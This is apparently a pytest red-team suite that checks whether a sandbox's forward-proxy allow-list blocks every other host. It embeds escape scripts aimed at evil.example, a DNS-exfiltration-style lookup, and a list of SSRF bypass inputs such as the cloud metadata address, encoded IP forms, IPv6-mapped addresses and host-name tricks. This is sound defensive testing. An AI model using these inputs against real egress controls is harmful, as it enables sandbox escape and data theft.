"""Hostile code in a sandbox with a list of hosts reaches those hosts and no other, by any name."""

import asyncio
import socket
import ssl
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from perdure.sandboxes.base import Network, Sandbox, SandboxProvider
from perdure.sandboxes.host import forward_proxy as proxies
from perdure.sandboxes.host.allow_list import AllowList
from perdure.sandboxes.host.forward_proxy import UnreachedHosts, forward_proxy
from perdure.sandboxes.host.host_addresses import Place
from tests.certificates import Authority, issue
from tests.redteam.conftest import Boot, attack

ASK = """
import os, socket, ssl, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])

def said(request):
    with socket.create_connection((proxy.hostname, proxy.port), 20) as end:
        end.sendall(request.encode())
        return end.recv(100).split(b" ")[1:2]

for host in sys.argv[1:]:
    if said(f"CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n") == [b"200"]:
        print("tunnel", host)
    if said(f"GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n") == [b"200"]:
        print("plain", host)
"""
"""Prints the hosts that it reaches."""
HANDSHAKE = """
import os, socket, ssl, sys, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
host, name = sys.argv[1:]
end = socket.create_connection((proxy.hostname, proxy.port), 20)
end.sendall(f"CONNECT {host} HTTP/1.1\\r\\n\\r\\n".encode())
end.recv(4096)
if name == "-":
    end.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")
    print(end.recv(100))
else:
    context = ssl._create_unverified_context()
    try:
        print(context.wrap_socket(end, server_hostname=name or None).version())
    except OSError:
        print("closed")
"""
FETCH = """
import sys, urllib.request
try:
    print(urllib.request.urlopen(sys.argv[1]).read().decode())
except OSError as error:
    print(error)
"""
AROUND = """
import socket, sys
for name in ("files.example", "data-in-a-name.evil.example"):
    try:
        print(socket.getaddrinfo(name, 443))
    except OSError:
        pass
for address in (("127.0.0.1", int(sys.argv[1])), ("198.51.100.7", 443), ("8.8.8.8", 53)):
    try:
        socket.create_connection(address, 2)
        print("reached", address)
    except OSError:
        pass
"""


class Names:
    """A name server: `files.example` and `inside.example` are this host, `lan.example` is private."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self._real = socket.getaddrinfo

    def __call__(self, host: Any, *rest: Any, **more: Any) -> Any:
        found = {"files.example": "127.0.0.1", "inside.example": "127.0.0.1"}
        found |= {"lan.example": "10.9.8.7", "mapped.example": "::ffff:10.9.8.7"}
        if str(host).endswith(".example"):
            self.asked.append(host)
        return self._real(found.get(host, host), *rest, **more)


@pytest.fixture
def names(monkeypatch: pytest.MonkeyPatch) -> Names:
    made = Names()
    monkeypatch.setattr(socket, "getaddrinfo", made)
    for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.upper(), raising=False)
    return made


@pytest.fixture
def authority(tmp_path: Path) -> Authority:
    return Authority.of(tmp_path)


@asynccontextmanager
async def serving(context: ssl.SSLContext | None = None, reply: str = "") -> AsyncIterator[int]:
    """The port of a server that says hello, or answers with `reply`."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if await reader.read(4096):
            said = reply or "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 5\r\n\r\nhello"
            writer.write(said.encode())
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0, ssl=context)
    async with server:
        yield server.sockets[0].getsockname()[1]


@pytest.fixture
async def port(names: Names, authority: Authority, tmp_path: Path) -> AsyncIterator[int]:
    """Of an HTTPS server for files.example on this host."""
    own = issue(tmp_path, "files", "DNS:files.example")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(own.certificate, own.key)
    async with serving(context) as port:
        yield port


@asynccontextmanager
async def box_that_reaches(
    boot: Boot, provider: SandboxProvider, *hosts: str
) -> AsyncIterator[tuple[Sandbox, UnreachedHosts]]:
    if Network.LISTED not in provider.networks:
        pytest.skip(f"{provider.name} takes no list of hosts")
    box = await boot(network=Network.LISTED)
    assert box.proxy_socket is not None
    allowed = AllowList.of(hosts, "phases.agent.network")
    async with forward_proxy(box.proxy_socket, allowed) as asked:
        yield box, asked


async def test_tools_use_the_proxy_by_themselves(
    boot: Boot, provider: SandboxProvider, port: int, authority: Authority
) -> None:
    """A listed host answers by HTTPS and HTTP, with the variables that each command gets."""
    async with serving() as plain:
        listed = (f"files.example:{port}", f"files.example:{plain}")
        own = (f"127.0.0.1:{port}", f"127.0.0.1:{plain}")
        async with box_that_reaches(boot, provider, *listed, *own) as (box, asked):
            await box.put("/tmp/ca.pem", authority.file.read_bytes())
            trusting = {"SSL_CERT_FILE": "/tmp/ca.pem"}
            said = [
                await box.exec(["python3", "-c", FETCH, url], env=trusting, timeout=120)
                for url in (f"https://files.example:{port}/", f"http://files.example:{plain}/")
            ]

    assert [one.stdout for one in said] == [b"hello\n"] * 2
    assert not asked.counts


async def test_no_other_host_port_or_address_is_reached(
    boot: Boot, provider: SandboxProvider, names: Names, port: int
) -> None:
    """Names that are not listed are not even resolved; literals, other ports, IPv6 and names that lead
    to private addresses are refused, and each refusal is counted."""
    listed = [f"files.example:{port}", "*.below.example", f"127.0.0.1:{port}", "0.0.0.0/0"]
    listed += (f"lan.example:{port}", f"mapped.example:{port}", "inside.example", "::/0")
    escapes = (
        *(f"evil.example:{port}", "below.example:443", "files.example:22", "files.example:443"),
        *(f"[::1]:{port}", f"[::ffff:127.0.0.2]:{port}", f"2130706433:{port}", f"127.1:{port}"),
        *("0x7f000001:80", "0.0.0.0:80", "127.0.0.1:80", "169.254.169.254:80", "10.9.8.7:443"),
        *("[fd00:ec2::254]:80", "[64:ff9b::a09:807]:443", "[::ffff:10.9.8.7]:80", "[fe80::1%1]:80"),
        *(f"lan.example:{port}", f"mapped.example:{port}", "inside.example:80"),
        *(f"files.example.evil.example:{port}", f"evil.example#.below.example:{port}"),
        *(f"files.example:{port}@evil.example:{port}", "a..below.example:80", "-.below.example:80"),
    )
    async with box_that_reaches(boot, provider, *listed) as (box, asked):
        found = await attack(box, ASK, *escapes)

    assert found.stdout == b""
    assert set(names.asked) == {"lan.example", "mapped.example", "inside.example"}
    assert {f"evil.example:{port}", "files.example:22", "169.254.169.254:80"} <= asked.refused
    assert asked.counts[Place("files.example.evil.example", port), "not listed"] == 2
    assert asked.counts[Place("lan.example", port), "leads to 10.9.8.7"] == 2


async def test_a_tunnel_carries_only_its_hosts_tls(
    boot: Boot, provider: SandboxProvider, port: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A listed host's server may hold others: a handshake that names another, or none, is cut."""
    monkeypatch.setattr(proxies, "WEB_PORTS", (port,))
    listed = (f"files.example:{port}", f"127.0.0.1:{port}")
    async with box_that_reaches(boot, provider, *listed) as (box, asked):
        said = [
            (await attack(box, HANDSHAKE, f"files.example:{port}", name)).stdout
            for name in ("files.example", "evil.example", "", "-")
        ]

    assert said[0].startswith(b"TLS")
    assert said[1:] == [b"closed\n", b"closed\n", b"b''\n"]
    assert [why for _, why in asked.counts] == [
        "its TLS handshake names evil.example",
        "its TLS handshake names no host",
        "no TLS in the tunnel",
    ]


async def test_a_redirect_leads_to_no_other_host(
    boot: Boot, provider: SandboxProvider, names: Names
) -> None:
    """The sandbox follows the redirect, and asks the proxy again."""
    moved = "HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\nContent-Length: 0\r\n\r\n"
    async with serving(reply=moved) as plain:
        listed = (f"files.example:{plain}", f"127.0.0.1:{plain}")
        async with box_that_reaches(boot, provider, *listed) as (box, asked):
            found = await attack(box, FETCH, f"http://files.example:{plain}/")

    assert b"403" in found.stdout
    assert (asked.refused, names.asked) == ({"evil.example:80"}, ["files.example"])


async def test_there_is_no_way_around_the_proxy(
    boot: Boot, provider: SandboxProvider, port: int
) -> None:
    """The sandbox has no name server and only its own loopback."""
    listed = (f"files.example:{port}", f"127.0.0.1:{port}")
    async with box_that_reaches(boot, provider, *listed) as (box, asked):
        found = await attack(box, AROUND, str(port))

    assert (found.stdout, asked.counts) == (b"", {})
